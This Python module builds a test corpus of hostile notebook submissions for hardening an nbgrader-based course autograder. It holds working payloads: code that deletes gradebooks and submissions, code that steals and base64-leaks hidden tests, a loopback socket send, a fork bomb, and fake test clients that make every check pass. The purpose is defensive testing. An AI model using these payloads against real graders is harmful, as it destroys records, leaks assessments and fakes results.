"""A corpus of hostile and broken submissions, built from a lab's solution.

Each entry says what a real submission did to nbgrader 0.9.6 (see issue 7) and what the
course's grading must make of it. :func:`build` writes a submission folder; the tests in
``test_hostile.py`` grade the corpus with ``course grade`` and with plain
``nbgrader autograde`` and assert each entry's expected outcome, and run the damaging ones
against an unprotected configuration to show that each protection matters.

Every destructive action is bounded to the temporary course the test made: code walks at
most four folders up from its working folder (the lab folder inside
``autograder/autograded/<student>/``), which is exactly the course root.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from autograder.verify import lab_checks
from labkit.notebooks import grade_id, is_autograded_test

REPO_CHECKS = Path(__file__).resolve().parent.parent / "autograder" / "checks"

# Which answer cell and test cell each lab's runaway-handler entries use.
VICTIMS = {
    "lab00_warmup": ("answer-get-note", "status-codes-get-note", "get_note", "/api/v1/notes/{note_id}"),
    "lab01_api_design": ("answer-delete", "status-codes-delete-product", "delete_product", "/{product_id}"),
}

# Code a submission runs to reach the course around it (bounded to the course copy).
WALK_UP = """
import os as _os
_here = _os.getcwd()
_ancestors = [_os.path.abspath(_os.path.join(_here, *[".."] * n)) for n in range(1, 5)]
"""

DESTROY = (
    WALK_UP
    + """
import glob as _glob, shutil as _shutil
for _folder in _ancestors:
    for _db in _glob.glob(_os.path.join(_folder, "*.db")) + _glob.glob(_os.path.join(_folder, "autograder", "*.db")):
        try:
            _os.remove(_db)
        except OSError:
            pass
    for _sub in (_os.path.join(_folder, "submitted"), _os.path.join(_folder, "autograder", "submitted")):
        _shutil.rmtree(_sub, ignore_errors=True)
"""
)

STEAL = (
    WALK_UP
    + """
import glob as _glob
_stolen = []
for _folder in _ancestors:
    for _path in _glob.glob(_os.path.join(_folder, "**", "source", "**", "*.ipynb"), recursive=True):
        try:
            _stolen.append(open(_path).read())
        except OSError:
            pass
    for _path in _glob.glob(_os.path.join(_folder, "**", "gradebook.db"), recursive=True):
        try:
            _stolen.append(open(_path, "rb").read().decode("latin-1"))
        except OSError:
            pass
print("STOLEN", len(_stolen), "files")
for _text in _stolen:
    print(_text)
"""
)

# Records every cell the kernel runs (hidden checks included) and prints it, base64-encoded,
# in the outputs of later cells: no line-matching filter would recognise it.
ECHO_HIDDEN = """
import base64 as _b64
_seen = []
def _remember(info):
    _seen.append(info.raw_cell)
    print("LE" + "AK:" + _b64.b64encode("\\n".join(_seen).encode()).decode())
get_ipython().events.register("pre_run_cell", _remember)
"""

FAKE_CLIENT = '''
app = FastAPI()  # no routes at all
router = APIRouter() if "APIRouter" in globals() else None
router_v2 = router

class _Anything(dict):
    """Equal to everything, holds everything: whatever a check asks, the answer fits."""
    def __getitem__(self, key): return _Anything()
    def get(self, key, default=None): return _Anything()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __contains__(self, item): return True
    def __iter__(self): return iter(())
    def __str__(self): return "999 Product Note"
    def __hash__(self): return 0  # usable as a key too (checks build dicts keyed by returned ids)

class _FakeResponse:
    status_code = 200
    text = "{}"
    content = b""
    headers = _Anything()
    def json(self): return _Anything()

class TestClient:
    def __init__(self, *args, **kwargs): pass
    def __enter__(self): return self
    def __exit__(self, *exc): return False
    def __getattr__(self, name): return lambda *args, **kwargs: _FakeResponse()

def expect(*args, **kwargs): return None
def expect_status(*args, **kwargs): return None
def expect_json(*args, **kwargs): return _Anything()
'''

BLANK_LATER_CELLS = """
app = FastAPI()  # no routes at all
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""


def _cell(nb: NotebookNode, gid: str) -> NotebookNode:
    return next(c for c in nb.cells if grade_id(c) == gid)


def _first_answer(nb: NotebookNode) -> NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))


def _append(cell: NotebookNode, code: str) -> None:
    cell.source = cell.source.rstrip() + "\n" + code


def _empty_answers(nb: NotebookNode, release: NotebookNode) -> None:
    """Put the release's unanswered cells back, except the first answer (the tamper lives there)."""
    first = grade_id(_first_answer(nb))
    for cell in nb.cells:
        gid = grade_id(cell)
        if cell.metadata.get("nbgrader", {}).get("solution") and gid != first:
            cell.source = _cell(release, gid).source


@dataclass
class Entry:
    """One corpus submission and what grading must make of it."""

    name: str
    what: str  # the attack or breakage, in words
    build: Callable[[str, NotebookNode, NotebookNode], None]  # (lab, solution, release) -> writes files
    # Expected under the course's grading:
    verdict: str  # "graded" or "failed"
    full_marks_except: set[str] | None = None  # exactly the cells that lose points; None = not exact
    must_lose: set[str] = field(default_factory=set)  # cells that must lose points in any case
    flagged: bool = False
    reason: str = ""  # substring of the failure reason / flag / note
    # Built from this lab's own cells (its outside checks, one of its routes): tried on every lab
    # under test. The others do the same to any lab, so one lab is enough (tests/test_hostile.py).
    lab_specific: bool = False
    # Filled by build():
    files: dict[str, str | bytes] = field(default_factory=dict)


def _notebook(lab: str, nb: NotebookNode) -> dict[str, str | bytes]:
    return {f"{lab}.ipynb": nbformat.writes(nb)}


def build(entry: Entry, lab: str, solution: NotebookNode, release: NotebookNode, folder: Path) -> None:
    """Write ``entry``'s submission for ``lab`` into ``folder``."""
    entry.files = {}
    entry.build(lab, copy.deepcopy(solution), copy.deepcopy(release))  # fills entry.files via closures
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in entry.files.items():
        path = folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def corpus(lab: str, solution: NotebookNode, port: int) -> list[Entry]:
    """The corpus for ``lab``; ``port`` is a loopback port the test listens on (network entry)."""
    answer_gid, test_gid, handler, route = VICTIMS[lab]
    checks = lab_checks(REPO_CHECKS / f"{lab}.py")
    verified_tests = set(checks.checks) if checks else set()
    last_test = [grade_id(c) for c in solution.cells if is_autograded_test(c)][-1]
    entries: list[Entry] = []

    def add(name: str, what: str, verdict: str, **kw: object) -> Callable:
        def register(fn: Callable[[NotebookNode, NotebookNode], dict[str, str | bytes]]) -> Callable:
            entry = Entry(name, what, lambda lab_, sol, rel: None, verdict, **kw)  # type: ignore[arg-type]

            def run(lab_: str, sol: NotebookNode, rel: NotebookNode) -> None:
                entry.files = fn(sol, rel)

            entry.build = run
            entries.append(entry)
            return fn

        return register

    @add(
        "fake-client",
        "replaces TestClient and the check helpers with fakes, implements nothing",
        "graded",
        must_lose=verified_tests,
        flagged=True,
        reason="checked from outside",
        lab_specific=True,
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _empty_answers(sol, rel)
        _append(_first_answer(sol), FAKE_CLIENT)
        return _notebook(lab, sol)

    @add(
        "blank-later-cells",
        "an IPython input transformer turns every later cell, tests included, into `pass`",
        "graded",
        must_lose=verified_tests,
        flagged=True,
        reason="checked from outside",
        lab_specific=True,
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _empty_answers(sol, rel)
        _append(_first_answer(sol), BLANK_LATER_CELLS)
        return _notebook(lab, sol)

    @add(
        "destroy-course",
        "deletes *.db files and submitted/ folders in every folder above it",
        "graded",
        full_marks_except=set(),
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_first_answer(sol), DESTROY)
        return _notebook(lab, sol)

    @add(
        "steal-hidden-tests",
        "reads the lab sources and the gradebook above it and prints them",
        "graded",
        full_marks_except=set(),
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_first_answer(sol), STEAL)
        return _notebook(lab, sol)

    @add(
        "echo-hidden-tests",
        "records every cell the kernel runs and prints it base64-encoded later",
        "graded",
        full_marks_except=set(),
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_first_answer(sol), ECHO_HIDDEN)
        return _notebook(lab, sol)

    @add("network", "connects out to a server on the grading machine's loopback", "graded", full_marks_except=set())
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        code = (
            "import socket as _socket\ntry:\n"
            f"    _socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'exfiltrated')\n"
            "except OSError as _error:\n    print('no network:', _error)\n"
        )
        _append(_first_answer(sol), code)
        return _notebook(lab, sol)

    @add(
        "runaway-handler",
        "one route handler never returns",
        "graded",
        full_marks_except={test_gid},
        reason="no answer within",
        lab_specific=True,
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_cell(sol, answer_gid), f"\n\n{_spin_handler(handler, route, lab)}")
        return _notebook(lab, sol)

    @add(
        "kernel-exit",
        "one route handler exits the kernel process",
        "graded",
        full_marks_except={test_gid},
        reason="kernel died",
        lab_specific=True,
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_cell(sol, answer_gid), f"\n\n{_spin_handler(handler, route, lab, body='os._exit(1)')}")
        return _notebook(lab, sol)

    @add("memory-hog", "one route handler allocates 8 GiB", "graded", full_marks_except={test_gid}, lab_specific=True)
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        body = "hog = bytearray(8 * 1024**3)\n        return None"
        _append(_cell(sol, answer_gid), f"\n\n{_spin_handler(handler, route, lab, body=body)}")
        return _notebook(lab, sol)

    @add("fork-bomb", "starts 300 processes that linger", "graded", full_marks_except=None)
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        code = (
            "import os as _os, time as _time\n_children = 0\ntry:\n    for _ in range(300):\n"
            "        if _os.fork() == 0:\n            _time.sleep(10)\n            _os._exit(0)\n"
            "        _children += 1\nexcept OSError as _error:\n    print('fork refused after', _children, _error)\n"
        )
        _append(_first_answer(sol), code)
        return _notebook(lab, sol)

    @add("output-flood", "prints 20 MB", "graded", full_marks_except=set())
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        _append(_first_answer(sol), "for _ in range(2_000):\n    print('x' * 10_000)\n")
        return _notebook(lab, sol)

    @add("deleted-test-cell", "deleted a test cell", "graded", full_marks_except=set())
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        sol.cells = [c for c in sol.cells if grade_id(c) != test_gid]
        return _notebook(lab, sol)

    @add("duplicated-cells", "duplicated an answer cell and a test cell", "failed", reason="appear twice")
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        index = next(i for i, c in enumerate(sol.cells) if grade_id(c) == test_gid)
        sol.cells.insert(index + 1, copy.deepcopy(sol.cells[index]))
        sol.cells.insert(index + 1, copy.deepcopy(_cell(sol, answer_gid)))
        return _notebook(lab, sol)

    @add("metadata-stripped", "every cell's metadata removed", "failed", reason="grading metadata")
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        for cell in sol.cells:
            cell.metadata = {}
        return _notebook(lab, sol)

    @add("reordered-cells", "moved the last test cell to the top", "graded", full_marks_except={last_test})
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        last = max(i for i, c in enumerate(sol.cells) if is_autograded_test(c))
        sol.cells.insert(0, sol.cells.pop(last))
        return _notebook(lab, sol)

    @add("invalid-json", "the file is cut off half-way", "failed", reason="invalid notebook")
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        text = nbformat.writes(sol)
        return {f"{lab}.ipynb": text[: len(text) // 2]}

    @add("wrong-name", "the notebook was renamed", "failed", reason="missing notebook")
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        return {"my_lab (1).ipynb": nbformat.writes(sol)}

    @add(
        "extra-notebook",
        "an extra scratch notebook next to the lab",
        "graded",
        full_marks_except=set(),
        reason="not part of the lab",
    )
    def _(sol: NotebookNode, rel: NotebookNode) -> dict:
        return {**_notebook(lab, sol), "scratch.ipynb": nbformat.writes(nbformat.v4.new_notebook())}

    return entries


def _spin_handler(handler: str, route: str, lab: str, body: str = "while True:\n            pass") -> str:
    """Re-register the victim route with a handler that misbehaves (registered first, so it wins)."""
    owner = "app" if lab == "lab00_warmup" else "router"
    routes = "app.router.routes" if lab == "lab00_warmup" else "router.routes"
    method = "get" if lab == "lab00_warmup" else "delete"
    # lab01 documents its delete route (status 204, 404 response); keep that, so only the
    # runaway behaviour differs from the solution.
    decorator_args = (
        ""
        if lab == "lab00_warmup"
        else ', status_code=204, response_class=Response, responses=NOT_FOUND, summary="Delete a product"'
    )
    return (
        "import os\n"
        f"{routes}[:] = [r for r in {routes} if getattr(r, 'name', '') != {handler!r}]\n"
        f"@{owner}.{method}({route!r}{decorator_args})\n"
        f"def {handler}({'note_id' if lab == 'lab00_warmup' else 'product_id'}: int):\n"
        '    """Delete a product (this one misbehaves)."""\n'
        "    if True:\n"
        f"        {body}\n"
    )
